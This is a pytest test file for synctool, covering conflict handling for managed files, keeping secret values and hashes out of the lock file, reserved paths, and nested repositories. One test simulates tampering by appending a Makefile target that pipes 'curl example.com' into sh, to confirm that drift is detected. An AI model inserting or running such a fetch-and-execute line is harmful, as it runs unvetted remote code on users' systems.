"""Trust under real conditions (issue #10): a team's edits to managed files,
secrets in the lock, synctool's own paths, and repositories inside the service."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
import yaml

from synctool.service.gitignore import ignored_paths
from synctool.service.lock import LockedFile
from synctool.service.lockentries import locked_files
from synctool.tree import FileEntry
from tests.helpers import git, init_service, make_blueprint, release, run_cli, snapshot

COPIER = "name:\n  type: str\n  default: orders\n"
POLICY = "ownership:\n  managed: [Makefile]\n"
MAKE_V1 = "test:\n\tpytest\n\nlint:\n\truff check .\n"
MAKE_V2 = "test:\n\tpytest -q\n\nlint:\n\truff check .\n"
MAKE_MINE = MAKE_V1 + "\nlocal:\n\techo mine\n"


def _service(
    capsys: pytest.CaptureFixture[str],
    workdir: Path,
    v1: dict[str, str],
    copier: str = COPIER,
    *data: str,
) -> tuple[Path, Path]:
    args = [f"--data={d}" for d in data]
    svc, bp = init_service(capsys, workdir, {"copier.yml": copier, **v1}, *args)
    return bp, svc


def _release(
    bp: Path, files: dict[str, str], tag: str = "v1.1.0", copier: str = COPIER
) -> None:
    release(bp, tag, {"copier.yml": copier, **files})


def _lock(svc: Path) -> dict[str, dict[str, str]]:
    files: dict[str, dict[str, str]] = yaml.safe_load(
        (svc / ".synctool.lock").read_text()
    )["files"]
    return files


# -- 1. a team's edits to a managed file are never silently replaced ----------


def _managed_service(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> tuple[Path, Path]:
    return _service(
        capsys, workdir, {"Makefile": MAKE_V1, "synctool.yml": POLICY, "a.txt": "a\n"}
    )


def _managed_release(bp: Path) -> None:
    _release(bp, {"Makefile": MAKE_V2, "synctool.yml": POLICY, "a.txt": "a\n"})


def test_a_committed_edit_of_a_managed_file_is_kept_beside_the_blueprint_version(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    bp, svc = _managed_service(capsys, workdir)
    (svc / "Makefile").write_text(MAKE_MINE)
    git(svc, "commit", "-qam", "our make target")
    _managed_release(bp)
    result = run_cli(capsys, "update", "svc")
    assert result.code == 1, result.err
    assert (svc / "Makefile").read_text() == MAKE_V2
    assert (svc / "Makefile.local").read_text() == MAKE_MINE
    out = result.out + result.err
    assert "1 file(s) need your decision: Makefile" in out
    assert "Makefile.local" in out
    # The new blueprint version is what is applied, not drift; the decision
    # left (Makefile.local) is what check reports until the team makes it.
    check = run_cli(capsys, "check", "svc")
    assert check.code == 1 and "Makefile.local" in check.out, check.out
    assert "managed-drift" not in check.out
    (svc / "Makefile.local").unlink()
    assert run_cli(capsys, "check", "svc").code == 0


def test_an_uncommitted_edit_of_a_managed_file_is_kept_too_and_listed_in_json(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    bp, svc = _managed_service(capsys, workdir)
    (svc / "Makefile").write_text(MAKE_MINE)  # not committed
    _managed_release(bp)
    result = run_cli(capsys, "update", "svc", "--allow-dirty", "--format", "json")
    assert result.code == 1, result.err
    report = json.loads(result.out)
    assert report["conflicts"] == ["Makefile"]
    (entry,) = [e for e in report["entries"] if e["path"] == "Makefile"]
    assert entry["action"] == "conflict"
    assert entry["side_file"] == "Makefile.local"
    assert entry["side_file_holds"] == "yours"
    assert (svc / "Makefile").read_text() == MAKE_V2
    assert (svc / "Makefile.local").read_text() == MAKE_MINE


def test_a_managed_file_whose_drift_is_waived_is_merged_three_way(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    bp, svc = _managed_service(capsys, workdir)
    (svc / "Makefile").write_text(MAKE_MINE)
    with (svc / ".synctool.yml").open("a") as declared:
        declared.write(
            "waivers:\n"
            "  - rule: managed-drift\n"
            "    paths: [Makefile]\n"
            "    reason: our extra target, agreed with platform\n"
        )
    git(svc, "commit", "-qam", "our make target, waived")
    _managed_release(bp)
    result = run_cli(capsys, "update", "svc")
    assert result.code == 0, result.out + result.err
    assert (svc / "Makefile").read_text() == MAKE_V2 + "\nlocal:\n\techo mine\n"
    assert not (svc / "Makefile.local").exists()


def test_an_expired_waiver_does_not_make_a_managed_file_merged(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    bp, svc = _managed_service(capsys, workdir)
    (svc / "Makefile").write_text(MAKE_MINE)
    with (svc / ".synctool.yml").open("a") as declared:
        declared.write(
            "waivers:\n"
            "  - rule: managed-drift\n"
            "    reason: until the migration\n"
            "    expires: 2001-01-01\n"
        )
    git(svc, "commit", "-qam", "expired waiver")
    _managed_release(bp)
    result = run_cli(capsys, "update", "svc")
    assert result.code == 1
    assert (svc / "Makefile").read_text() == MAKE_V2
    assert (svc / "Makefile.local").read_text() == MAKE_MINE


# -- 2. the lock never records a hash that reveals a secret --------------------

SECRET_COPIER = COPIER + (
    "api_token:\n  type: str\n  secret: true\n  default: changeme-token\n"
)
TOKEN = "hunter2-but-much-longer-0123456789"


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def test_a_file_holding_a_secret_answer_is_locked_without_its_hash(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    files = {
        "app.env.jinja": "TOKEN={{ api_token }}\nLOG=info\nWORKERS=2\n",
        "README.md.jinja": "# {{ name }}\n",
    }
    bp, svc = _service(capsys, workdir, files, SECRET_COPIER, f"api_token={TOKEN}")
    rendered = f"TOKEN={TOKEN}\nLOG=info\nWORKERS=2\n"
    assert (svc / "app.env").read_text() == rendered
    lock_text = (svc / ".synctool.lock").read_text()
    assert TOKEN not in lock_text
    assert _sha(rendered) not in lock_text
    locked = _lock(svc)
    assert "sha256" not in locked["app.env"]
    assert locked["app.env"]["class"] == "merged"
    assert locked["README.md"]["sha256"] == _sha("# orders\n")
    assert run_cli(capsys, "check", "svc").code == 0

    # The merge still works: the base render gives the file's base content.
    _release(
        bp,
        {**files, "app.env.jinja": "TOKEN={{ api_token }}\nLOG=info\nWORKERS=4\n"},
        copier=SECRET_COPIER,
    )
    result = run_cli(capsys, "update", "svc")
    assert result.code == 0, result.out + result.err
    assert (svc / "app.env").read_text() == f"TOKEN={TOKEN}\nLOG=info\nWORKERS=4\n"
    assert TOKEN not in (svc / ".synctool.lock").read_text()
    assert "sha256" not in _lock(svc)["app.env"]


def test_a_gitignored_rendered_file_is_locked_without_its_hash(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    files = {
        # .jinja: rendered as .gitignore, not the blueprint repo's own ignores
        ".gitignore.jinja": ".env\nlocal/\n",
        ".env": "DATABASE_URL=postgres://localhost/dev\n",
        "local/notes.txt": "scratch\n",
        "app.py": "print('hi')\n",
    }
    _bp, svc = _service(capsys, workdir, files)
    locked = _lock(svc)
    assert "sha256" not in locked[".env"]
    assert "sha256" not in locked["local/notes.txt"]
    assert locked["app.py"]["sha256"] == _sha("print('hi')\n")
    assert locked[".gitignore"]["sha256"] == _sha(".env\nlocal/\n")
    assert run_cli(capsys, "check", "svc").code == 0


def test_a_managed_file_locked_without_a_hash_is_not_called_drift(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    files = {
        "app.env.jinja": "TOKEN={{ api_token }}\n",
        "synctool.yml": "ownership:\n  managed: [app.env]\n",
    }
    _bp, svc = _service(capsys, workdir, files, SECRET_COPIER, f"api_token={TOKEN}")
    assert _lock(svc)["app.env"] == {"mode": "644", "class": "managed"}
    (svc / "app.env").write_text("TOKEN=rotated-by-the-team\n")
    result = run_cli(capsys, "check", "svc")
    assert result.code == 0, result.out
    (svc / "app.env").unlink()
    assert run_cli(capsys, "check", "svc").code == 1  # missing is still seen
    # --fix cannot know the secret (never recorded): it restores no guess.
    fixed = run_cli(capsys, "check", "svc", "--fix")
    assert fixed.code == 1
    assert "restore it by hand" in fixed.out + fixed.err
    assert not (svc / "app.env").exists()


def test_ignored_paths_read_nested_ignore_files_as_git_does() -> None:
    gitignores = {
        ".gitignore": b"*.env\n!example.env\nbuild/\n",
        "deploy/.gitignore": b"!prod.env\nsecrets.txt\n",
    }
    paths = [
        "a.env",
        "example.env",
        "build/out.txt",
        "deploy/prod.env",
        "deploy/dev.env",
        "deploy/secrets.txt",
        "secrets.txt",
        "src/app.py",
    ]
    assert ignored_paths(paths, gitignores) == {
        "a.env",
        "build/out.txt",
        "deploy/dev.env",
        "deploy/secrets.txt",
    }


def test_locked_files_hash_only_what_reveals_nothing() -> None:
    tree = {
        "app.env": FileEntry(b"TOKEN=s3cret-value\n"),
        "link": FileEntry(b"s3cret-value", 0o120000),
        ".env": FileEntry(b"X=1\n"),
        "README.md": FileEntry(b"# hi\n", 0o755),
    }
    files = locked_files(
        tree,
        lambda path: "managed",
        secrets=["s3cret-value", ""],  # an empty answer reveals nothing
        gitignores=[{".gitignore": b".env\n"}],
    )
    assert files == {
        "app.env": LockedFile(None, 0o644, "managed"),
        "link": LockedFile(None, 0o120000, "managed"),
        ".env": LockedFile(None, 0o644, "managed"),
        "README.md": LockedFile(_sha("# hi\n"), 0o755, "managed"),
    }


# -- 3. synctool's own paths are reserved --------------------------------------


@pytest.mark.parametrize(
    "path",
    [".synctool-journal/manifest.json", ".synctool-sync.lock", ".synctool.lock"],
)
def test_a_blueprint_rendering_a_synctool_path_is_refused_by_init(
    capsys: pytest.CaptureFixture[str], workdir: Path, path: str
) -> None:
    bp = make_blueprint(
        workdir / "bp", {"v1.0.0": {"copier.yml": COPIER, path: "{}\n", "a": "a\n"}}
    )
    result = run_cli(capsys, "init", "svc", "--blueprint", str(bp), "--defaults")
    assert result.code == 2
    assert path in result.err and "synctool" in result.err
    assert len(result.err.strip().splitlines()) <= 2  # the error and its hint
    assert not (workdir / "svc").exists()


def test_a_release_rendering_the_journal_is_refused_by_sync(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    bp, svc = _service(capsys, workdir, {"a.txt": "a\n"})
    _release(bp, {"a.txt": "b\n", ".synctool-journal/manifest.json": '{"ops": []}'})
    before = snapshot(svc)
    result = run_cli(capsys, "update", "svc")
    assert result.code == 2
    assert ".synctool-journal/manifest.json" in result.err
    assert snapshot(svc) == before


# -- 4. repositories inside the service are not ours to write -------------------


def test_a_nested_git_repository_is_never_written(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    bp, svc = _service(capsys, workdir, {"a.txt": "a\n"})
    tools = svc / "tools"
    tools.mkdir()
    git(tools, "init", "-q")
    (tools / "config.yml").write_text("mine: true\n")
    git(tools, "add", "-A")
    git(tools, "commit", "-qm", "tools")
    _release(bp, {"a.txt": "b\n", "tools/config.yml": "x: 1\n", "tools/new.txt": "n\n"})
    result = run_cli(capsys, "update", "svc", "--allow-dirty", "--format", "json")
    assert result.code == 1, result.err
    assert (tools / "config.yml").read_text() == "mine: true\n"
    assert not (tools / "new.txt").exists()
    assert git(tools, "status", "--porcelain") == ""
    assert (svc / "a.txt").read_text() == "b\n"
    report = json.loads(result.out)
    assert set(report["conflicts"]) == {"tools/config.yml", "tools/new.txt"}
    reasons = {e["path"]: e["reason"] for e in report["entries"]}
    assert "git repository" in reasons["tools/new.txt"]


def test_a_git_submodule_is_never_written(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    lib = make_blueprint(workdir / "lib", {"v0.1": {"README.md": "lib\n"}})
    bp, svc = _service(capsys, workdir, {"a.txt": "a\n"})
    git(
        svc,
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        str(lib),
        "libs/shared",
    )
    git(svc, "commit", "-qm", "shared lib")
    sub = svc / "libs/shared"
    _release(
        bp,
        {"a.txt": "b\n", "libs/shared/README.md": "ours\n", "libs/shared/x.txt": "x\n"},
    )
    result = run_cli(capsys, "update", "svc")
    assert result.code == 1, result.err
    assert (sub / "README.md").read_text() == "lib\n"
    assert not (sub / "x.txt").exists()
    assert git(sub, "status", "--porcelain") == ""
    assert (svc / "a.txt").read_text() == "b\n"
    out = result.out + result.err
    assert "libs/shared/x.txt" in out and "git repository" in out


def test_an_uninitialised_submodule_is_never_written(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    lib = make_blueprint(workdir / "lib", {"v0.1": {"README.md": "lib\n"}})
    bp, svc = _service(capsys, workdir, {"a.txt": "a\n"})
    git(
        svc,
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        str(lib),
        "libs/shared",
    )
    git(svc, "commit", "-qm", "shared lib")
    git(svc, "submodule", "deinit", "-q", "libs/shared")  # an empty folder now
    assert not (svc / "libs/shared/.git").exists()
    _release(bp, {"a.txt": "b\n", "libs/shared/x.txt": "x\n"})
    result = run_cli(capsys, "update", "svc")
    assert result.code == 1, result.err
    assert not (svc / "libs/shared/x.txt").exists()
    assert (svc / "a.txt").read_text() == "b\n"


def _nested_service(
    capsys: pytest.CaptureFixture[str], workdir: Path, policy: str
) -> tuple[Path, Path]:
    """A service whose vendor/lib (rendered by the blueprint) became a nested
    repository; then a release that changes vendor/lib/conf.txt."""
    v1 = {"synctool.yml": policy, "vendor/lib/conf.txt": "v1\n", "a.txt": "a\n"}
    bp, svc = _service(capsys, workdir, v1)
    lib = svc / "vendor/lib"
    git(lib, "init", "-q")
    git(lib, "add", "-A")
    git(lib, "commit", "-qm", "nested")
    git(svc, "add", "-A")
    git(svc, "commit", "-qm", "nested", "--allow-empty")
    _release(bp, {**v1, "vendor/lib/conf.txt": "v2 security fix\n"})
    return bp, svc


@pytest.mark.parametrize(
    "policy",
    ["ownership:\n  managed: [vendor/**]\n", "ownership:\n  seeded: [nothing]\n"],
    ids=["managed", "merged"],
)
def test_a_blueprint_change_inside_a_nested_repository_stays_reported(
    capsys: pytest.CaptureFixture[str], workdir: Path, policy: str
) -> None:
    _bp, svc = _nested_service(capsys, workdir, policy)
    lib = svc / "vendor/lib"
    update = run_cli(capsys, "update", str(svc))
    assert update.code == 1, update.err
    assert (lib / "conf.txt").read_text() == "v1\n"
    git(svc, "add", "-A")
    git(svc, "commit", "-qm", "update", "--allow-empty")
    # not forgotten: check and the next sync still say so
    check = run_cli(capsys, "check", str(svc))
    assert check.code == 1, check.out
    assert "vendor/lib/conf.txt" in check.out
    again = run_cli(capsys, "sync", str(svc), "--format", "json")
    assert again.code == 1, again.err
    assert json.loads(again.out)["conflicts"] == ["vendor/lib/conf.txt"]
    # check --fix never writes inside the nested repository
    fixed = run_cli(capsys, "check", str(svc), "--fix")
    assert fixed.code == 1, fixed.out
    assert (lib / "conf.txt").read_text() == "v1\n"
    assert git(lib, "status", "--porcelain") == ""
    # applied there by its owners: resolved
    (lib / "conf.txt").write_text("v2 security fix\n")
    git(lib, "commit", "-qam", "apply the blueprint's fix")
    git(svc, "add", "-A")
    git(svc, "commit", "-qm", "bump", "--allow-empty")
    assert run_cli(capsys, "check", str(svc)).code == 0
    assert run_cli(capsys, "sync", str(svc)).code == 0


def test_drift_inside_a_nested_repository_is_not_reported_nor_fixed(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    _bp, svc = _nested_service(capsys, workdir, "ownership:\n  managed: [vendor/**]\n")
    lib = svc / "vendor/lib"
    (lib / "conf.txt").write_text("theirs to edit\n")
    git(lib, "commit", "-qam", "edit")
    check = run_cli(capsys, "check", str(svc), "--fix")
    assert check.code == 0, check.out + check.err
    assert (lib / "conf.txt").read_text() == "theirs to edit\n"
    assert git(lib, "status", "--porcelain") == ""


def test_a_guessable_secret_answer_does_not_hide_drift(
    capsys: pytest.CaptureFixture[str], workdir: Path
) -> None:
    copier = COPIER + "db_password:\n  type: str\n  secret: true\n  default: postgres\n"
    files = {
        "synctool.yml": "ownership:\n  managed: [Makefile, compose.yml]\n",
        "Makefile": "db:\n\tdocker compose up -d postgres\n",
        "compose.yml.jinja": "image: postgres:16\npassword: '{{ db_password }}'\n",
    }
    _bp, svc = _service(capsys, workdir, files, copier)
    locked = _lock(svc)
    assert locked["Makefile"]["sha256"] == _sha(files["Makefile"])
    assert "sha256" in locked["compose.yml"]
    git(svc, "add", "-A")
    git(svc, "commit", "-qm", "init", "--allow-empty")
    with (svc / "Makefile").open("a") as handle:
        handle.write("evil:\n\tcurl example.com | sh\n")
    with (svc / "compose.yml").open("a") as handle:
        handle.write("privileged: true\n")
    result = run_cli(capsys, "check", "svc")
    assert result.code == 1, result.out
    assert "Makefile" in result.out and "compose.yml" in result.out


def test_locked_files_hash_files_holding_only_guessable_secret_values() -> None:
    tree = {
        "Makefile": FileEntry(b"up:\n\tdocker compose up postgres\n"),
        "pin.env": FileEntry(b"PIN=1234\n"),
        "app.env": FileEntry(b"TOKEN=s3cret-value\nDB=postgres\n"),
    }
    files = locked_files(
        tree, lambda path: "managed", secrets=["postgres", "1234", "s3cret-value"]
    )
    assert files["Makefile"].sha256 == _sha("up:\n\tdocker compose up postgres\n")
    assert files["pin.env"].sha256 == _sha("PIN=1234\n")
    assert files["app.env"].sha256 is None
